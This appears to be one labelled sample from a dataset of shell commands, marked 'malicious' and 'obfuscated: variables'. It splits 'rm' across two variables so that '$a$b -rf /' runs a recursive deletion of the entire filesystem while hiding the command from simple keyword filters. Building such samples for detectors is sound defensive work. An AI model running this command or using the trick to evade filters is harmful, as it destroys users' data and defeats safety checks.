# label: malicious; obfuscated: variables
a=r; b=m
$a$b -rf /
